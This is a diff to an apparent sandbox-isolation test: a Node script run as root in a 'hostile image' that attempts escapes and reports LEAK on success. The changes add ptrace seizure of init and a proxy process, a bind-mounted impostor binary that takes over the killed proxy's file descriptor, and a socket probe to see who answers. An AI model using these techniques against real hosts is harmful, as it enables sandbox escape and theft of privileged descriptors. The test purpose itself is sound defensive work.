@@ -1,7 +1,8 @@
 // The entrypoint of a hostile image: root in the Machine, which tries what root can. Prints `attack NAME RESULT`.
 import ffi from 'node:ffi'
 import { execFileSync } from 'node:child_process'
-import { closeSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs'
+import { chmodSync, closeSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs'
+import { connect } from 'node:net'
 
 const proxy = Number(
   readdirSync('/proc').find(
@@ -9,9 +10,9 @@ const proxy = Number(
   ),
 )
 // Numbers of system calls that differ, and the name of a function of the kernel.
-const { ptrace, kexec, bpf, perf, inKernel } = {
-  x64: { ptrace: 101, kexec: 246, bpf: 321, perf: 298, inKernel: '__x64_sys_write' },
-  arm64: { ptrace: 117, kexec: 104, bpf: 280, perf: 241, inKernel: '__arm64_sys_write' },
+const { ptrace, wait4, kexec, bpf, perf, inKernel } = {
+  x64: { ptrace: 101, wait4: 61, kexec: 246, bpf: 321, perf: 298, inKernel: '__x64_sys_write' },
+  arm64: { ptrace: 117, wait4: 260, kexec: 104, bpf: 280, perf: 241, inKernel: '__arm64_sys_write' },
 }[process.arch]
 const { functions: libc } = ffi.dlopen(null, {
   syscall: { arguments: ['i64', 'i64', 'i64', 'i64', 'i64', 'i64'], return: 'i64' },
@@ -61,7 +62,15 @@ for (const pid of [1, proxy]) {
     }
     return got
   })
-  attempt(`${who}-ptrace`, () => call(ptrace, 0x4206, pid, 0, 0))
+  attempt(`${who}-ptrace`, () => {
+    const seized = call(ptrace, 0x4206, pid, 0, 0)
+    if (seized !== 'LEAK') return seized
+    // Let go again: who is traced hears no signal before its tracer does.
+    call(ptrace, 0x4207, pid, 0, 0) // PTRACE_INTERRUPT
+    call(wait4, pid, 0, 0x40000000, 0) // __WALL
+    call(ptrace, 17, pid, 0, 0) // PTRACE_DETACH
+    return seized
+  })
   attempt(`${who}-pidfd_getfd`, () => call(438, libc.syscall(434n, BigInt(pid), 0n, 0n, 0n, 0n), 3, 0))
 }
 attempt('kcore', () => open('/proc/kcore'))
@@ -100,4 +109,34 @@ attempt('remount', () => {
 })
 await new Promise((resolve) => setTimeout(resolve, 1500))
 attempt('helper', () => readFileSync('/helper.out', 'utf8').trim().replace(/\s+/g, ' '))
+// What is started in the proxy's place has the page as a descriptor; the last, for the proxy is killed.
+writeFileSync('/impostor', '#!/bin/busybox sh\n/bin/busybox readlink /proc/self/fd/3 > /impostor.out\n', {
+  mode: 0o755,
+})
+writeFileSync('/impostor.out', '', { mode: 0o666 })
+chmodSync('/impostor.out', 0o666)
+try {
+  execFileSync('/bin/busybox', ['mount', '-o', 'bind', '/impostor', '/dotfly/node'])
+  process.kill(proxy, 'SIGKILL')
+  says('overmount', await next())
+} catch (error) {
+  says('overmount', `refused ${error.message}`)
+}
 console.log('attacks over')
+
+/** Who has come after the proxy: itself, which answers, or the impostor. */
+async function next() {
+  const guest = connect('/.fly/api')
+  guest.on('error', () => undefined)
+  guest.write('GET / HTTP/1.1\r\nhost: a\r\n\r\n')
+  let answer = ''
+  guest.on('data', (bytes) => (answer += bytes.toString('latin1')))
+  for (;;) {
+    const held = readFileSync('/impostor.out', 'utf8').trim()
+    if (answer !== '' || held !== '') {
+      guest.destroy()
+      return held === '' ? `itself ${answer.slice(0, 12)}` : `LEAK ${held}`
+    }
+    await new Promise((resolve) => setTimeout(resolve, 100))
+  }
+}
